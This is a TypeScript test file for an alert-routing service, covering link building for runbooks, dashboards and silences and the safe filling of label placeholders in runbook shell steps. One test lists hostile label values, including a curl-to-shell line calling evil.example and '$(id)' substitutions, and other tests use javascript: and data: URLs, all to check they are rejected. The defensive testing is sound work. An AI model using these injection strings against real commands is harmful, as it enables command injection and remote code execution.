import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  alertRunbookUrl,
  dashboardUrl,
  MAX_LINK_LENGTH,
  messageLinks,
  silenceUrl,
} from '../../src/alert/alert-links.js';
import { commonLabels, fillPlaceholders } from '../../src/alert/fill-placeholders.js';
import { fixture } from '../../support/fixtures.js';

const opts = { publicUrl: 'https://ar.example', alertmanagerUrl: undefined };
const ours = {
  HighErrorRate: { summary: 's', dashboards: [{ title: 'SLO overview', uid: 'slo-overview' }] },
};
const texts = (links: ReadonlyArray<{ text: string; href: string }>): string[][] =>
  links.map((l) => [l.text, l.href]);

describe('silenceUrl', () => {
  it('uses ALERTMANAGER_URL first, then an http(s) externalURL that is not alert-router itself', () => {
    const p = fixture('firing');
    assert.match(
      silenceUrl(p, { ...opts, alertmanagerUrl: 'https://am.example' })!,
      /^https:\/\/am\.example\/#\/silences\/new\?filter=/,
    );
    assert.match(silenceUrl(p, opts)!, /^http:\/\/alertmanager:9093\/#\/silences\/new/);
    for (const own of ['https://ar.example', 'https://ar.example/', 'https://ar.example/am'])
      assert.equal(silenceUrl({ ...p, externalURL: own }, opts), undefined, own);
    // alert-router under a path prefix: only addresses under that prefix are ours.
    const prefixed = { ...opts, publicUrl: 'https://example.org/alert-router' };
    assert.equal(silenceUrl({ ...p, externalURL: 'https://example.org/alert-router' }, prefixed), undefined);
    assert.match(
      silenceUrl({ ...p, externalURL: 'https://example.org/alertmanager' }, prefixed)!,
      /^https:\/\/example\.org\/alertmanager\/#/,
    );
    assert.equal(silenceUrl({ ...p, externalURL: 'ftp://am.example' }, opts), undefined);
  });
});

describe('messageLinks', () => {
  it("links alert-router's runbook only when it has one, else the alert's runbook_url", () => {
    const p = fixture('firing');
    p.commonAnnotations.runbook_url = 'https://runbooks.example/high-error-rate';
    assert.deepEqual(texts(messageLinks(p, opts, ours)).slice(0, 2), [
      ['Runbook', 'https://ar.example/runbooks/HighErrorRate'],
      ["Alert's runbook", 'https://runbooks.example/high-error-rate'],
    ]);
    assert.deepEqual(texts(messageLinks(p, opts, {})).slice(0, 1), [
      ['Runbook', 'https://runbooks.example/high-error-rate'],
    ]);
    p.commonAnnotations.runbook_url = 'javascript:alert(1)';
    assert.deepEqual(
      messageLinks(p, opts, {}).map((l) => l.kind),
      ['silence', 'source'],
    );
  });

  it("takes a runbook_url of alert-router's own page (or a lab's loopback copy of it) for ours", () => {
    const p = fixture('firing'); // runbook_url: http://localhost:8080/runbooks/HighErrorRate
    assert.deepEqual(texts(messageLinks(p, opts, ours)).slice(0, 2), [
      ['Runbook', 'https://ar.example/runbooks/HighErrorRate'],
      ['Silence', messageLinks(p, opts, ours)[1]!.href],
    ]);
    // ... so without a runbook here it is not linked either: it would be a 404.
    assert.ok(!messageLinks(p, opts, {}).some((l) => l.kind === 'runbook'));
    // Another runbook of the same name elsewhere is the alert's own.
    p.commonAnnotations.runbook_url = 'https://wiki.example/runbooks/HighErrorRate';
    assert.equal(messageLinks(p, opts, {})[0]!.href, 'https://wiki.example/runbooks/HighErrorRate');
  });

  it('links the runbook dashboards on GRAFANA_URL only, then the dashboard annotations', () => {
    const p = fixture('firing');
    p.commonAnnotations.grafana_url = 'https://grafana.example/d/abc?var-service=x';
    p.commonAnnotations.dashboard = 'not a url';
    const dashboards = (grafanaUrl: string | undefined): string[][] =>
      texts(messageLinks(p, { ...opts, grafanaUrl }, ours).filter((l) => l.kind === 'dashboard'));
    assert.deepEqual(dashboards(undefined), [['Dashboard', 'https://grafana.example/d/abc?var-service=x']]);
    assert.deepEqual(dashboards('http://127.0.0.1:3000/'), [
      ['SLO overview', 'http://127.0.0.1:3000/d/slo-overview'],
      ['Dashboard', 'https://grafana.example/d/abc?var-service=x'],
    ]);
    assert.equal(dashboardUrl('https://g.example/grafana', 'a b'), 'https://g.example/grafana/d/a%20b');
  });

  it('keeps the order runbook, dashboard, silence, source; leaves out repeats and links too long to use', () => {
    const p = fixture('firing');
    p.commonAnnotations.dashboard_url = p.alerts[0]!.generatorURL;
    p.commonAnnotations.runbook_url = `https://runbooks.example/${'x'.repeat(MAX_LINK_LENGTH)}`;
    assert.deepEqual(
      messageLinks(p, { ...opts, grafanaUrl: 'https://g.example' }, ours).map((l) => l.kind),
      ['runbook', 'dashboard', 'dashboard', 'silence'],
    );
  });

  it('without runbooks looked up, links ours as before', () => {
    const p = fixture('firing');
    p.commonAnnotations.runbook_url = 'https://wiki.example/x';
    p.commonAnnotations.dashboard_url = 'https://grafana.example/d/abc';
    assert.deepEqual(
      messageLinks(p, opts, undefined).map((l) => l.text),
      ['Runbook', "Alert's runbook", 'Dashboard', 'Silence', 'Source'],
    );
  });
});

describe('alertRunbookUrl', () => {
  it("is alert-router's runbook when it has one, else the alert's own http(s) runbook_url", () => {
    const a = fixture('firing').alerts[0]!;
    a.annotations.runbook_url = 'https://wiki.example/x';
    assert.equal(alertRunbookUrl(a, 'https://ar.example', ours), 'https://ar.example/runbooks/HighErrorRate');
    assert.equal(alertRunbookUrl(a, 'https://ar.example', {}), 'https://wiki.example/x');
    a.annotations.runbook_url = 'data:text/html,x';
    assert.equal(alertRunbookUrl(a, 'https://ar.example', {}), undefined);
  });
});

describe('fillPlaceholders', () => {
  it('fills <label>, {{ $labels.label }} and {{ label }} from known labels, leaves the rest as written', () => {
    const labels = { service: 'checkout', instance: 'co-1:8080', constructor: 'c' };
    assert.equal(
      fillPlaceholders(
        'logs <service> on {{ $labels.instance }} and {{instance}}; ask <host>; {{.Name}} <br >',
        labels,
      ),
      'logs checkout on co-1:8080 and co-1:8080; ask <host>; {{.Name}} <br >',
    );
    assert.equal(fillPlaceholders('<toString> <constructor>', labels), '<toString> c');
    // A value is inserted once: one that looks like a placeholder is not filled again (nor safe).
    assert.equal(fillPlaceholders('<a> <b>', { a: 'b', b: 'x' }), 'b x');
  });

  it('fills only values that stay one word in a shell command and a PromQL string', () => {
    const step = 'docker compose logs <service> | grep x; up{service="<service>"}';
    for (const hostile of ['api; curl -s https://evil.example/x | sh #', 'a"b', 'a b', '$(id)', '`id`', "a'b", 'a\nb', '', 'x'.repeat(201)])
      assert.equal(fillPlaceholders(step, { service: hostile }), step, hostile);
    assert.equal(fillPlaceholders('<instance> <pod>', { instance: '10.0.0.1:9100', pod: 'api-7f9c@x/y=z,%2B' }), '10.0.0.1:9100 api-7f9c@x/y=z,%2B');
  });

  it('finds the labels every alert shares', () => {
    assert.deepEqual(commonLabels([{ a: '1', b: '2' }, { a: '1', b: '3' }, { a: '1' }]), { a: '1' });
    assert.deepEqual(commonLabels([]), {});
  });
});
